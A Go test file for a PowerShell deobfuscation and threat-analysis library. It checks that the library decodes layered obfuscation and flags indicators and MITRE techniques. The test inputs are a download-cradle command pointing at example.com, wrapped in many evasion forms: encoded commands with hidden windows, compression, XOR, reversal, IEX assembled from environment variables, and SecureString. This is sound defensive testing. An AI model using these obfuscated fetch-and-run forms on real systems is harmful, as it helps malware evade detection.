package psdeob

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"
)

const payload = "(New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"

func b64utf16(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func compress(t *testing.T, s string, gz bool) string {
	t.Helper()
	var buf bytes.Buffer
	if gz {
		w := gzip.NewWriter(&buf)
		w.Write([]byte(s))
		w.Close()
	} else {
		w, _ := flate.NewWriter(&buf, flate.BestCompression)
		w.Write([]byte(s))
		w.Close()
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func analyze(t *testing.T, src string) *Analysis {
	t.Helper()
	a, err := Analyze(context.Background(), src, Options{})
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	return a
}

func finalText(a *Analysis) string { return a.Layers[a.FinalLayer].Text }

func hasIndicator(a *Analysis, typ, val string) bool {
	for _, i := range a.Indicators {
		if i.Type == typ && strings.EqualFold(i.Value, val) {
			return true
		}
	}
	return false
}

func TestDecodingTechniques(t *testing.T) {
	cases := []struct {
		name, src string
	}{
		{"encodedcommand", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + b64utf16(payload)},
		{"ec prefix", "pwsh -ec " + b64utf16(payload)},
		{"cmd wrapper", `cmd.exe /c "powershell -nop -w hidden -c ` + payload + `"`},
		{"bare base64", b64utf16(payload)},
		{"utf8 base64 iex", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte(payload)) + "')))"},
		{"unicode base64", "$x=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + b64utf16(payload) + "'));Invoke-Expression $x"},
		{"deflate", "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + compress(t, payload, false) + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"},
		{"gzip", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + compress(t, payload, true) + "\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"},
		{"bxor", "$b=[Convert]::FromBase64String('" + xorB64(payload, 0x33) + "');$s=-join ($b | % { [char]($_ -bxor 0x33) }); iex $s"},
		{"char array", "iex ([string]::Join('', [char[]](" + charCodes(payload, 10) + ")))"},
		{"char hex casts", "iex (" + charCasts(payload) + ")"},
		{"octal", "iex ((" + octal(payload) + " -split ',' | % { [char][Convert]::ToInt16($_, 8) }) -join '')"},
		{"format reorder", `iex ("{2}{0}{1}" -f 'ew-Object Net.WebClient).DownloadString(','''http://example.com/a.ps1'')','(N')`},
		{"replace", `iex ("(New-Object Net.WebClient).DownloadString(QQQhttp://example.com/a.ps1QQQ)" -replace 'QQQ',[char]39)`},
		{"dot replace", `iex ("(New-Object Net.WebClient).DownloadString(ZZhttp://example.com/a.ps1ZZ)".Replace('ZZ',"'"))`},
		{"reverse index", `$r=")'1sp.a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN("; iex ($r[-1..-($r.Length)] -join '')`},
		{"array reverse", `$c=[char[]]")'1sp.a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(";[Array]::Reverse($c);iex (-join $c)`},
		{"regex rtl", `iex (-join [regex]::Matches(")'1sp.a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(",'.','RightToLeft'))`},
		{"concat+backtick", "i`E`x ('(New-Object Net.We'+'bClient).Downl'+'oadString(''ht'+'tp://example.com/a.ps1'')')"},
		{"set-variable", `Set-Variable -Name q -Value ('(New-Object Net.WebClient).Download'+'String(''http://example.com/a.ps1'')'); iex (Get-Variable q -ValueOnly)`},
		{"braced var", `${a b}='(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')'; iex ${a b}`},
		{"comspec iex", `&($env:ComSpec[4,15,25]-join'') ('(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')')`},
		{"pshome iex", `.($PSHome[4]+$PSHome[30]+'x') ('(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')')`},
		{"shellid iex", `&($ShellId[1]+$ShellId[13]+'x') ('(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')')`},
		{"verbosepref iex", `'(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')' | &($VerbosePreference.ToString()[1,3]+'x'-join'')`},
		{"mdr iex", `.((gv '*mdr*').Name[3,11,2]-join'') ('(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')')`},
		{"scriptblock create", `& ([ScriptBlock]::Create('(New-Object Net.WebClient).DownloadString(''http://example.com/a.ps1'')'))`},
		{"securestring", secureStringSample(t, payload)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := analyze(t, c.src)
			if got := finalText(a); !strings.Contains(got, "DownloadString('http://example.com/a.ps1')") {
				t.Fatalf("final layer = %q (layers=%d)", got, len(a.Layers))
			}
			if !hasIndicator(a, "url", "http://example.com/a.ps1") || !hasIndicator(a, "domain", "example.com") {
				t.Errorf("indicators = %+v", a.Indicators)
			}
			if !hasTechnique(a, "T1105") {
				t.Errorf("techniques = %+v", a.Techniques)
			}
		})
	}
}

func hasTechnique(a *Analysis, id string) bool {
	for _, t := range a.Techniques {
		if t.ID == id {
			return true
		}
	}
	return false
}

func xorB64(s string, k byte) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= k
	}
	return base64.StdEncoding.EncodeToString(b)
}

func charCodes(s string, _ int) string {
	var parts []string
	for _, r := range s {
		parts = append(parts, itoa(int(r)))
	}
	return strings.Join(parts, ",")
}

func charCasts(s string) string {
	var parts []string
	for _, r := range s {
		parts = append(parts, "[char]0x"+hex.EncodeToString([]byte{byte(r)}))
	}
	return strings.Join(parts, "+")
}

func octal(s string) string {
	var parts []string
	for _, r := range s {
		o := ""
		for n := int(r); n > 0; n /= 8 {
			o = string(rune('0'+n%8)) + o
		}
		parts = append(parts, o)
	}
	return "'" + strings.Join(parts, ",") + "'"
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for ; n > 0; n /= 10 {
		s = string(rune('0'+n%10)) + s
	}
	return s
}

// secureStringSample builds ConvertFrom-SecureString -Key output for s with
// a fixed key and IV, and the script that decodes and runs it.
func secureStringSample(t *testing.T, s string) string {
	t.Helper()
	key := make([]byte, 16)
	iv := make([]byte, 16)
	for i := range key {
		key[i], iv[i] = byte(i+1), byte(100+i)
	}
	u := utf16.Encode([]rune(s))
	pt := make([]byte, 2*len(u))
	for i, c := range u {
		pt[2*i], pt[2*i+1] = byte(c), byte(c>>8)
	}
	pad := 16 - len(pt)%16
	pt = append(pt, bytes.Repeat([]byte{byte(pad)}, pad)...)
	block, _ := aes.NewCipher(key)
	ct := make([]byte, len(pt))
	cipher.NewCBCEncrypter(block, iv).CryptBlocks(ct, pt)
	inner := "2|" + base64.StdEncoding.EncodeToString(iv) + "|" + hex.EncodeToString(ct)
	enc := secureStringHeader + b64utf16(inner)
	var keyList []string
	for _, k := range key {
		keyList = append(keyList, itoa(int(k)))
	}
	return "$ss = '" + enc + "' | ConvertTo-SecureString -Key " + strings.Join(keyList, ",") +
		"; iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss)))"
}

func TestIndicatorPrecision(t *testing.T) {
	src := `$w = New-Object System.Net.WebClient; $v = '10.0.17763.1'; $asm = 'Version=4.0.0.0'
$u = 'http://example.org/x/@http://example.net/y/'.Split('@')
[System.IO.Path]::Combine('a','b'); $ip = '203.0.113.7'; $k = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
$e = 'analyst@example.com'; $p = 'C:\Users\Public\run.exe'`
	a := analyze(t, src)
	want := map[string]string{"http://example.org/x/": "url", "http://example.net/y/": "url", "example.org": "domain",
		"203.0.113.7": "ip", "analyst@example.com": "email", `C:\Users\Public\run.exe`: "path",
		`HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`: "registry", "example.net": "domain"}
	for v, typ := range want {
		if !hasIndicator(a, typ, v) {
			t.Errorf("missing %s %s in %+v", typ, v, a.Indicators)
		}
	}
	for _, i := range a.Indicators {
		if _, ok := want[i.Value]; !ok {
			t.Errorf("unexpected indicator %+v", i)
		}
	}
	if !hasTechnique(a, "T1547.001") {
		t.Errorf("Run key not detected: %+v", a.Techniques)
	}
}

func TestVerdictAndExplanation(t *testing.T) {
	a := analyze(t, "powershell -w hidden -enc "+b64utf16(payload+"; iex $x"))
	if a.Verdict != VerdictMalicious {
		t.Errorf("verdict = %s (%v)", a.Verdict, a.Reasons)
	}
	if !strings.Contains(a.Explanation, "Layer 1") || !strings.Contains(a.Explanation, "T1105") {
		t.Errorf("explanation = %s", a.Explanation)
	}
	if !hasTechnique(a, "T1564.003") {
		t.Errorf("hidden window not detected")
	}
	b := analyze(t, "Get-ChildItem C:\\Temp | Sort-Object Length")
	if b.Verdict != VerdictBenign {
		t.Errorf("benign verdict = %s %v", b.Verdict, b.Reasons)
	}
	j, err := json.Marshal(a)
	if err != nil || !bytes.Contains(j, []byte(`"hunting_hints"`)) || !bytes.Contains(j, []byte(`"layers"`)) {
		t.Errorf("json: %v %s", err, j[:200])
	}
}

func TestLimits(t *testing.T) {
	if _, err := Analyze(context.Background(), strings.Repeat("a", 100), Options{MaxInputBytes: 10}); !errors.Is(err, ErrInputTooLarge) {
		t.Errorf("size limit: %v", err)
	}
	// decompression bomb: 64 MiB of zeros compresses to ~64 KiB
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write(make([]byte, 64<<20))
	w.Close()
	bomb := "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" +
		base64.StdEncoding.EncodeToString(buf.Bytes()) + "'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"
	a := analyze(t, bomb)
	for _, l := range a.Layers {
		if len(l.Text) > maxInflateBytes {
			t.Fatalf("layer of %d bytes escaped the inflate cap", len(l.Text))
		}
	}
	// deep nesting must not overflow the stack
	analyze(t, strings.Repeat("(", 100000)+"1"+strings.Repeat(")", 100000))
	analyze(t, strings.Repeat("$(", 50000))
	// self-reproducing iex chain is bounded
	analyze(t, `$s='iex $s'; iex $s`)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Analyze(ctx, "iex 'x'", Options{}); err == nil {
		t.Error("cancelled context accepted")
	}
}

func TestDeterministic(t *testing.T) {
	src := secureStringSample(t, payload) + "\n" + "$a=@{b='http://example.com/1';c='http://example.com/2'}"
	a1, _ := json.Marshal(analyze(t, src))
	a2, _ := json.Marshal(analyze(t, src))
	if !bytes.Equal(a1, a2) {
		t.Error("two runs differ")
	}
}
